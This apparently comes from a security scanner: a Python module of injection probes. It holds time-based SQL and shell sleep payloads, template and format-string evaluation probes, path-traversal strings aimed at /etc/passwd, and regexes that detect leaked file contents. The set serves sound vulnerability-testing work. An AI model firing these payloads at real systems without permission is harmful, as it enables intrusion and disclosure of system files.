"""Text that does something wherever an argument is taken for more than data. None destroys."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

SLEEP = 2
"""Seconds that a payload would have something sleep."""
PRODUCT = "7919*7907"
"""A product that nobody has in an answer by chance, to be worked out by whoever evaluates."""
WORKED_OUT = str(7919 * 7907)

SAME, OTHER = "q", "z"
CONDITIONS = (
    "' OR 'q'='{letter}",
    "' AND 'q'='{letter}",
    "' OR 'q'='{letter}' --",
    '" OR "q"="{letter}',
    " OR 'q'='{letter}'",
)
"""Endings of an argument: a database that reads them finds them true with SAME, false with OTHER.

One letter is all that differs, so that answers which repeat an argument can still be compared,
however they write it.
"""

SLEEPERS = {
    "SQL, a condition": "' OR pg_sleep({seconds}) IS NULL OR '1'='2",
    "SQL, a string": "'||(SELECT pg_sleep({seconds})::text)||'",
    "SQL, a second statement": "'; SELECT pg_sleep({seconds}); --",
    "SQL, a number": " OR 1=(SELECT 1 FROM pg_sleep({seconds}))",
    "MySQL, a condition": "' OR SLEEP({seconds}) OR '1'='2",
    "MySQL, in double quotes": '" OR SLEEP({seconds}) OR "1"="2',
    "MySQL, a number": " OR SLEEP({seconds})",
    "SQL Server, a second statement": "'; WAITFOR DELAY '0:0:{seconds}'; --",
    "SQL Server, after a number": "; WAITFOR DELAY '0:0:{seconds}'; --",
    "Oracle, a condition": "' OR 1=DBMS_PIPE.RECEIVE_MESSAGE('x',{seconds}) OR '1'='2",
    "shell, a substitution": "$(sleep {seconds})",
    "shell, backticks": "`sleep {seconds}`",
    "shell, a second command": "; sleep {seconds} #",
    "shell, out of single quotes": "'; sleep {seconds}; '",
    "shell, out of double quotes": '"; sleep {seconds}; "',
}
"""Endings of an argument that have whoever runs them sleep."""

EVALUATED = {
    "Jinja": f"{{{{{PRODUCT}}}}}",
    "expression language": f"${{{PRODUCT}}}",
    "ERB": f"<%= {PRODUCT} %>",
    "f-string": f"{{{PRODUCT}}}",
    "shell arithmetic": f"$(( {PRODUCT} ))",
    "shell": f"$(expr {PRODUCT.replace('*', ' ' + chr(92) + '* ')})",
}
"""Endings of an argument in which the product stands, by what would work it out."""

FORMATS = ("{0.__class__}", "{error.__class__}", "{self.__init__.__globals__}", "%(name)s")
"""Endings of an argument that a formatter would fill in."""
FILLED_IN = re.compile(r"<class |__builtins__|<module |<built-in |<bound method|<function ")

PATHS = (
    "../../../../../../../../etc/passwd",
    "/etc/passwd",
    "....//....//....//....//....//etc/passwd",
    "/etc/passwd\0.json",
    "/proc/self/status",
)
"""Whole arguments that name a file every Unix has."""
FILE_CONTENT = re.compile(r"root:[^:\s]*:0:0:|VmPeak:|Threads:\s*\d")

DERIVED: dict[str, Callable[[str], str]] = {
    "out of a folder and back": lambda good: f"x/../{good}",
    "in the same folder": lambda good: f"./{good}",
    "with a query": lambda good: f"{good}?x=1",
    "with a fragment": lambda good: f"{good}#x",
    "as a folder": lambda good: f"{good}/.",
    "percent-encoded": lambda good: "".join(f"%{ord(letter):02x}" for letter in good),
    "percent-encoded in part": lambda good: f"%{ord(good[0]):02x}{good[1:]}",
}
"""Spellings of a good value that mean the same to whoever makes it a part of a path or URL."""
